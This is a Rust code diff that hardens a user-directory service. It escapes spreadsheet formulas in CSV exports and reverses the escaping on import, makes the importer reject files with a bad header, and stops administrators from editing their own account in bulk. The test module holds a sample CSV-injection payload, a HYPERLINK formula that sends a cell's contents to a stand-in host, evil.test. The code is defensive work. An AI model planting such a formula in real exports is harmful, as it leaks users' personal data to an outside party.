@@ -136,21 +136,56 @@ pub async fn all_matching(
     }
 }
 
-/// The users as CSV, with a header.
+/// The users as CSV, with a header. Every cell is safe to open in a
+/// spreadsheet ([`spreadsheet_safe`]).
 pub fn to_csv(users: &[UserRow]) -> ApiResult<String> {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(COLUMNS).map_err(ApiError::internal)?;
     for u in users {
-        w.write_record([
-            u.username.as_str(),
-            u.display_name.as_str(),
-            u.email.as_deref().unwrap_or(""),
-            u.phone.as_deref().unwrap_or(""),
-            u.role.as_str(),
-        ])
+        w.write_record(
+            [
+                u.username.as_str(),
+                u.display_name.as_str(),
+                u.email.as_deref().unwrap_or(""),
+                u.phone.as_deref().unwrap_or(""),
+                u.role.as_str(),
+            ]
+            .map(|cell| spreadsheet_safe(cell).into_owned()),
+        )
         .map_err(ApiError::internal)?;
     }
     String::from_utf8(w.into_inner().map_err(ApiError::internal)?).map_err(ApiError::internal)
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula
+/// (OWASP "CSV Injection"; ASVS 5.0 V1.2.10).
+const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// Whether `cell` is one a spreadsheet would run, or one that looks like an
+/// escaped one (`'` marks before a formula's first character), which must
+/// be escaped too so that the import gives back exactly what was exported.
+fn needs_quote(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A cell as an export writes it: prefixed with `'` when a spreadsheet
+/// would read it as a formula (a display name `=HYPERLINK(…)`, a phone
+/// number `+31…`), so it shows as text and runs nothing (SECURITY 36).
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A cell as an import reads it: exactly the prefix [`spreadsheet_safe`]
+/// adds is taken off, so an export imported again changes nothing.
+pub fn from_spreadsheet(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_quote(rest) => rest,
+        _ => cell,
+    }
 }
 
 /// One valid row of an import. A column the file does not have leaves an
@@ -170,6 +205,7 @@ struct Row {
 /// A field of a row, trimmed; empty as `None`.
 fn field(record: &csv::StringRecord, at: Option<usize>) -> Option<&str> {
     at.and_then(|i| record.get(i))
+        .map(from_spreadsheet)
         .map(str::trim)
         .filter(|v| !v.is_empty())
 }
@@ -188,44 +224,43 @@ async fn check(
         .flexible(true)
         .from_reader(text.as_bytes());
     let mut records = reader.records();
-    let mut errors = Vec::new();
+    // A first line that does not name the columns refuses the whole file:
+    // nothing is read as a partial success (422 `invalid_csv`).
+    let refuse = |why: String| {
+        ApiError::with(
+            ErrorCode::InvalidCsv,
+            format!(
+                "{why} {}",
+                text::import_header(lang::current(), &COLUMNS.join(","))
+            ),
+        )
+    };
     let header = match records.next() {
         Some(Ok(h)) => h,
-        _ => {
-            return Ok((
-                Vec::new(),
-                vec![ImportError {
-                    line: 1,
-                    message: text::import_header(lang::current(), &COLUMNS.join(",")),
-                }],
-                0,
-            ));
+        Some(Err(e)) => {
+            return Err(refuse(text::import_not_csv(
+                lang::current(),
+                &e.to_string(),
+            )));
         }
+        None => return Err(refuse(String::new())),
     };
     let mut at = HashMap::new();
     for (i, name) in header.iter().enumerate() {
         let name = name.trim().trim_start_matches('\u{feff}').to_lowercase();
         if !COLUMNS.contains(&name.as_str()) {
-            errors.push(ImportError {
-                line: 1,
-                message: text::import_unknown_column(
-                    lang::current(),
-                    &name.chars().take(40).collect::<String>(),
-                    &COLUMNS.join(", "),
-                ),
-            });
+            return Err(refuse(text::import_unknown_column(
+                lang::current(),
+                &name.chars().take(40).collect::<String>(),
+                &COLUMNS.join(", "),
+            )));
         }
         at.insert(name, i);
     }
     if !at.contains_key("username") {
-        errors.push(ImportError {
-            line: 1,
-            message: text::import_no_username(lang::current()),
-        });
+        return Err(refuse(text::import_no_username(lang::current())));
     }
-    if !errors.is_empty() {
-        return Ok((Vec::new(), errors, 0));
-    }
+    let mut errors = Vec::new();
     let existing = app.store.usernames(&dir.id).await?;
     let allowed = app.config.allowed_countries().unwrap_or_default();
     let mut seen: HashMap<String, u32> = HashMap::new();
@@ -263,13 +298,12 @@ async fn check(
                 }
                 seen.insert(row.username.clone(), line);
                 row.existing = existing.get(&row.username).cloned();
-                if row.existing.is_some()
-                    && row.existing.as_deref() == actor
-                    && row.role == Some(Role::User)
-                {
+                // The administrator's own account changes only through the
+                // profile (SECURITY 34).
+                if row.existing.is_some() && row.existing.as_deref() == actor && update {
                     errors.push(ImportError {
                         line,
-                        message: text::import_own_role(lang::current()),
+                        message: text::import_own_account(lang::current()),
                     });
                     continue;
                 }
@@ -497,7 +531,9 @@ pub async fn bulk(
     };
     for u in &users {
         match action {
-            BulkAction::Disable | BulkAction::Enable if u.id == auth.user.id => {
+            // The administrator's own account changes only through the
+            // profile (SECURITY 34).
+            _ if u.id == auth.user.id => {
                 skipped.push(skip(u, text::bulk_skip_self));
             }
             BulkAction::Disable | BulkAction::Enable => {
@@ -561,4 +597,34 @@ pub async fn by_ids(app: &AppState, dir: &DirectoryRow, ids: &[String]) -> ApiRe
         }
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_quoted_and_the_quote_taken_off_again() {
+        for (cell, exported) in [
+            (
+                "=HYPERLINK(\"https://evil.test/?\"&D2,\"update\")",
+                "'=HYPERLINK(\"https://evil.test/?\"&D2,\"update\")",
+            ),
+            ("+31612345678", "'+31612345678"),
+            ("-1", "'-1"),
+            ("@SUM(1)", "'@SUM(1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("\0x", "'\0x"),
+            // Looks like a quoted formula: quoted once more.
+            ("'=1", "''=1"),
+            ("Ann 'Annie' Smith", "Ann 'Annie' Smith"),
+            ("'quoted'", "'quoted'"),
+            ("ann", "ann"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_safe(cell), exported, "{cell:?}");
+            assert_eq!(from_spreadsheet(exported), cell, "{exported:?}");
+        }
+    }
 }
